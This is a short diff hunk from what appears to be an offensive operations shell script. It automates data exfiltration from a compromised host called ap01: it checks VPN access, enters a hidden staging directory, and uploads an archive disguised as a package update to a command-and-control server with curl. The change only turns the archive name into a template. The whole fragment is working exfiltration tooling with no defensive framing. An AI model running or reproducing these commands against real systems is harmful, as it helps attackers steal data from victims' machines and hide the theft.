@@ -5,7 +5,7 @@ vpn_access || { log "exfil: no way through the VPN"; exit 1; }
 log "exfil from ap01"
 typed <<CMDS | to_ap01 120 > "$OPS/session-exfil.log" 2>&1
 cd /var/tmp/.mis-cache
-curl -s -m 60 --data-binary @pkg-update-7f3a.tgz "$C2/upload?name=kaede-pkg-update-7f3a.tgz"
+curl -s -m 60 --data-binary @pkg-update-{{stage_id}}.tgz "$C2/upload?name=kaede-pkg-update-{{stage_id}}.tgz"
 cd
 exit
 CMDS
